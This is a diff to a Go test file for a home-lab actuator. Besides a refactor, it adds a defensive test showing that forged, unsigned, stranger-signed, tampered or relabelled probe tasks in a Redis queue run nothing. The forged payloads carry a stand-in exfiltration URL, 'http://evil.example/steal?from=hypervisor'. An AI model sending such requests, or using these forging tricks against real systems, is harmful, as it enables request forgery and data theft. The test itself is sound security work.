@@ -1,10 +1,14 @@
 package actuator
 
 import (
+	"crypto/ed25519"
+	"encoding/json"
 	"fmt"
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/hibiken/asynq"
 
 	"github.com/nomoshq/nomos/labsim"
 	"github.com/nomoshq/nomos/policy"
@@ -43,13 +47,7 @@ func TestProbes(t *testing.T) {
 		{"ping", "ping", node, map[string]any{"host": "jellyfin"}, healthy, "jellyfin: 0% packet loss", "loss_pct", 0},
 	} {
 		t.Run(tc.id, func(t *testing.T) {
-			task, err := tasks.NewCheckRunTask(tasks.CheckRun{CheckID: "check-" + tc.id, TargetID: "entity-" + tc.id, Kind: tc.kind, Target: tc.target, Spec: tc.spec})
-			if err != nil {
-				t.Fatal(err)
-			}
-			if _, err := b.queue.Enqueue(task); err != nil {
-				t.Fatal(err)
-			}
+			b.probe(t, tasks.CheckRun{CheckID: "check-" + tc.id, TargetID: "entity-" + tc.id, Kind: tc.kind, Target: tc.target, Spec: tc.spec})
 			got := b.results.check(t, "check-"+tc.id)
 			diff(t, "target id", "entity-"+tc.id, got.TargetID)
 			diff(t, "health", tc.health, got.Health)
@@ -76,13 +74,7 @@ func TestExpiredProbeIsDropped(t *testing.T) {
 		{CheckID: "check-current", TargetID: "entity-1", Kind: "dns", Target: jellyfin,
 			Spec: map[string]any{"name": "current.example"}, IssuedAt: time.Now(), ExpiresAt: time.Now().Add(time.Minute)},
 	} {
-		task, err := tasks.NewCheckRunTask(c)
-		if err != nil {
-			t.Fatal(err)
-		}
-		if _, err := b.queue.Enqueue(task); err != nil {
-			t.Fatal(err)
-		}
+		b.probe(t, c)
 	}
 	b.results.check(t, "check-current")
 	for _, m := range b.results.wait(t, "what arrived", func([]message) bool { return true }) {
@@ -107,14 +99,8 @@ func TestProbesNeverHoldUpAnOrder(t *testing.T) {
 	}
 	jellyfin := b.jellyfin()
 	for i := range 4 {
-		task, err := tasks.NewCheckRunTask(tasks.CheckRun{CheckID: fmt.Sprintf("check-hung-%d", i), TargetID: "entity-1", Kind: "dns",
+		b.probe(t, tasks.CheckRun{CheckID: fmt.Sprintf("check-hung-%d", i), TargetID: "entity-1", Kind: "dns",
 			Target: jellyfin, IssuedAt: time.Now(), ExpiresAt: time.Now().Add(time.Minute)})
-		if err != nil {
-			t.Fatal(err)
-		}
-		if _, err := b.queue.Enqueue(task); err != nil {
-			t.Fatal(err)
-		}
 	}
 	hung := func() int {
 		n := 0
@@ -191,5 +177,89 @@ func TestProbeSpecValidation(t *testing.T) {
 				t.Errorf("want the probe refused before anything runs")
 			}
 		})
+	}
+}
+
+// TestForgedProbesRunNothing: someone who can write to Redis, but holds
+// no key of the bot's, asks the actuator to fetch a URL of their choosing
+// from the hypervisor. Nothing runs and nothing is reported.
+func TestForgedProbesRunNothing(t *testing.T) {
+	t.Parallel()
+	// One probe worker, so the good probe at the end is handled after
+	// every forged one before it.
+	b := setup(t, withConfig(func(c *Config) { c.ProbeConcurrency = 1 }))
+	_, strangerKey, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	steal := map[string]any{"url": "http://evil.example/steal?from=hypervisor"}
+	fetch := func(id string) tasks.CheckRun {
+		return tasks.CheckRun{CheckID: id, TargetID: "entity-1", Actuator: tasks.DefaultActuator, Kind: "http", Target: b.jellyfin(),
+			Spec: steal, IssuedAt: time.Now(), ExpiresAt: time.Now().Add(time.Minute)}
+	}
+	genuine := func(c tasks.CheckRun) []byte {
+		env, err := tasks.SignCheckRun(b.signKey, c)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return env
+	}
+	relabel := func(payload []byte, typ string) []byte {
+		var env tasks.Envelope
+		if err := json.Unmarshal(payload, &env); err != nil {
+			t.Fatal(err)
+		}
+		env.Type = typ
+		out, _ := json.Marshal(env)
+		return out
+	}
+	for _, tc := range []struct {
+		name    string
+		payload []byte
+	}{
+		{"unsigned", func() []byte { raw, _ := json.Marshal(fetch("forged-unsigned")); return raw }()},
+		{"signed by a stranger", func() []byte {
+			env, err := tasks.SignCheckRun(strangerKey, fetch("forged-stranger"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			return env
+		}()},
+		{"url swapped into a genuine request", func() []byte {
+			c := fetch("forged-swapped")
+			c.Spec = nil
+			var env tasks.Envelope
+			if err := json.Unmarshal(genuine(c), &env); err != nil {
+				t.Fatal(err)
+			}
+			env.Body = json.RawMessage(strings.Replace(string(env.Body), `"kind":"http"`, `"spec":{"url":"http://evil.example/steal?from=hypervisor"},"kind":"http"`, 1))
+			out, _ := json.Marshal(env)
+			return out
+		}()},
+		{"a genuine order delivered as a probe", b.sign(t, b.order(t, "forged-order", policy.RestartParams{}, b.jellyfin()))},
+		{"a genuine order relabelled as a probe", relabel(b.sign(t, b.order(t, "forged-relabelled", policy.RestartParams{}, b.jellyfin())), tasks.TypeCheckRun)},
+		{"for another actuator", func() []byte {
+			c := fetch("forged-west")
+			c.Actuator = "actuator-west"
+			return genuine(c)
+		}()},
+	} {
+		if _, err := b.queue.Enqueue(asynq.NewTask(tasks.TypeCheckRun, tc.payload, asynq.Queue(tasks.QueueProbes), asynq.MaxRetry(0))); err != nil {
+			t.Fatalf("%s: %v", tc.name, err)
+		}
+	}
+	b.probe(t, tasks.CheckRun{CheckID: "check-after", TargetID: "entity-1", Kind: "dns", Target: b.jellyfin()})
+	diff(t, "the good probe after the forged ones", healthy, b.results.check(t, "check-after").Health)
+
+	for _, e := range b.commands(t) {
+		if strings.Contains(e.Command, "evil.example") || strings.Contains(e.Command, "restart") {
+			t.Errorf("a forged probe ran %q", e.Command)
+		}
+	}
+	diff(t, "labsim ran only the good probe", []string{"pct exec 101 -- getent hosts 'deb.debian.org'"}, commandLines(b.commands(t)))
+	for _, m := range b.results.wait(t, "what arrived", func([]message) bool { return true }) {
+		if m.Type != tasks.TypeCheckResult || m.Check.CheckID != "check-after" {
+			t.Errorf("a forged probe was answered: %+v", m)
+		}
 	}
 }
